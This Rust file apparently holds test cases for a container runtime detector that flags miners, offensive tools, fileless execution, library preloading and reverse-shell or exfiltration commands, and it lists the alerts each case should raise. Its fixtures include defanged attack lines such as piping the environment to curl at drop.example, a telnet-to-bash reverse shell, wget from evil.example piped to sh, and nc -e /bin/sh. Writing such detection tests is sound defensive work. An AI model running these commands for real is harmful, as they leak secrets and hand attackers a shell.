//! Programs that should not run in a container that serves.

use crate::world::Case;

pub(crate) const CASES: &[Case] = &[
    Case {
        name: "a miner by its name",
        prepare: "cp /usr/bin/true xmrig",
        script: "./xmrig",
        reports: &["picket_miner_executed"],
    },
    Case {
        name: "a miner by its arguments",
        prepare: "",
        script: "env true -o stratum+tcp://pool.example:3333",
        reports: &["picket_miner_executed"],
    },
    Case {
        name: "miners by a wallet, and by what they mine",
        prepare: "",
        script: r#"
env true -o pool.example:3333 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A.rig
env true --coin=monero
env true --coin=gold --user=44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7ot
"#,
        reports: &["picket_miner_executed", "picket_miner_executed"],
    },
    Case {
        name: "words of miners where they mean nothing",
        prepare: "echo stratum+tcp://pool.example > list; mkdir xmrig",
        script: "grep -c stratum+tcp list; ls xmrig; sh -c 'echo stratum+tcp://pool.example'",
        reports: &[],
    },
    Case {
        name: "an offensive tool",
        prepare: "cp /usr/bin/true nmap",
        script: "./nmap -sS 127.0.0.1",
        reports: &["picket_suspicious_tool"],
    },
    Case {
        name: "a tunnelling tool by its arguments",
        prepare: "cp /usr/bin/true kworker",
        script: "./kworker client https://host.example R:1080:socks",
        reports: &["picket_suspicious_tool"],
    },
    Case {
        name: "a tool's name as an argument",
        prepare: "echo nmap > nmap",
        script: "cat nmap; touch hydra; rm hydra",
        reports: &[],
    },
    Case {
        name: "a program in an anonymous memory file",
        prepare: "",
        script: r#"
python3 - <<'PYTHON'
import os
memory = os.memfd_create("update", 0)
with open("/usr/bin/true", "rb") as program:
    os.write(memory, program.read())
os.execve(memory, ["update"], {})
PYTHON
"#,
        reports: &["picket_fileless_execution"],
    },
    Case {
        name: "a program in shared memory",
        prepare: "",
        script: "cp /usr/bin/true /dev/shm/update; /dev/shm/update",
        reports: &["picket_fileless_execution"],
    },
    Case {
        name: "memory files and shared memory that are no programs",
        prepare: "",
        script: r#"
python3 -c 'import os; os.write(os.memfd_create("cache"), b"data")'
echo data > /dev/shm/cache
cat /dev/shm/cache
"#,
        reports: &[],
    },
    Case {
        name: "a program that arrives and is run",
        prepare: "",
        script: "cp /usr/bin/true tool; ./tool; ./tool",
        reports: &["picket_new_binary_executed"],
    },
    Case {
        name: "a program of the image, and one that arrives and is not run",
        prepare: "cp /usr/bin/true tool",
        script: "./tool; cp tool copy; mv copy other; touch data; chmod 0755 data",
        reports: &[],
    },
    Case {
        name: "a library from a folder for everyone is forced into a program",
        prepare: "",
        script: "LD_PRELOAD=/tmp/hide.so sh -c 'ls; ls'",
        reports: &["picket_preloaded_library"],
    },
    Case {
        name: "the same behind a library of the system, through a descriptor, and from the working directory",
        prepare: "",
        script: "LD_PRELOAD=libm.so.6:/tmp/hide.so ls; LD_PRELOAD=/proc/self/fd/9 ls; LD_PRELOAD=./hide.so ls",
        reports: &[
            "picket_preloaded_library",
            "picket_preloaded_library",
            "picket_preloaded_library",
        ],
    },
    Case {
        name: "a library of the system is preloaded",
        prepare: "",
        script: "LD_PRELOAD=libm.so.6 true; TMPDIR=/tmp/LD_PRELOAD=/tmp/x true",
        reports: &[],
    },
    Case {
        name: "bash is told to connect",
        prepare: "",
        script: "bash -c ': > /dev/tcp/127.0.0.1/9' || true",
        reports: &["picket_suspicious_command"],
    },
    Case {
        name: "python makes a terminal for a shell, and a shell runs what a bare address gives",
        prepare: "",
        script: r#"
python3 -c 'import pty; pty.spawn(["/usr/bin/true"])'
sh -c 'false && curl -fsSL http://127.0.0.1:9/install.sh | bash' || true
"#,
        reports: &["picket_suspicious_command", "picket_suspicious_command"],
    },
    Case {
        name: "shells are told to send the environment away, to take commands from netcat, and awk to connect",
        prepare: "cp \"$(readlink -f \"$(command -v awk)\")\" gawk",
        script: r#"
sh -c 'false && env | base64 -w0 | curl -d @- http://drop.example/' || true
sh -c 'false && (mknod pipe p; telnet host.example 9 0<pipe | /bin/bash 1>pipe)' || true
./gawk 'BEGIN { if (0) "/inet/tcp/0/host.example/9" | getline }'
"#,
        reports: &[
            "picket_suspicious_command",
            "picket_suspicious_command",
            "picket_suspicious_command",
        ],
    },
    Case {
        name: "a program that listens downloads something with a tool, without a shell",
        prepare: "loopback; cp /usr/bin/true curl",
        script: r#"
python3 - <<'PYTHON'
import socket, subprocess
subprocess.run(["./curl", "http://127.0.0.1:9/before"], check=True)
server = socket.create_server(("127.0.0.1", 0))
subprocess.run(["./curl", "-o", "/tmp/x", "http://127.0.0.1:9/x"], check=True)
PYTHON
"#,
        reports: &["picket_download_from_network_service"],
    },
    Case {
        name: "a program that listens runs what a name gives",
        prepare: "loopback",
        script: r#"
python3 - <<'PYTHON'
import os, socket
server = socket.create_server(("127.0.0.1", 0))
os.system("false && wget -qO- http://evil.example/x.sh | sh")
PYTHON
"#,
        reports: &["picket_suspicious_command"],
    },
    Case {
        name: "a shell looks at what an address gives, and python at a terminal",
        prepare: "",
        script: r#"
sh -c 'false && curl -fsSL http://127.0.0.1:9/health | grep -q ok' || true
sh -c 'false && curl -fsSL https://get.example/list | shuf | head -1' || true
python3 -c 'import pty'
"#,
        reports: &[],
    },
    Case {
        name: "netcat is told to hand a shell to others",
        prepare: "cp /usr/bin/true nc; cp /usr/bin/true ncat",
        script: "./nc -lve /bin/sh 127.0.0.1 9; ./ncat --sh-exec id 127.0.0.1 9",
        reports: &["picket_suspicious_command", "picket_suspicious_command"],
    },
    Case {
        name: "netcat looks whether a port answers, and base64 text is read",
        prepare: "cp /usr/bin/true nc; cp /usr/bin/true ncat; cp /usr/bin/true socat",
        script: r#"
./nc -z -w 1 127.0.0.1 9
./ncat --verbose --source 127.0.0.1 127.0.0.1 9
./socat - TCP:127.0.0.1:9
sh -c 'echo aGVsbG8K | base64 -d | cat'
"#,
        reports: &[],
    },
];
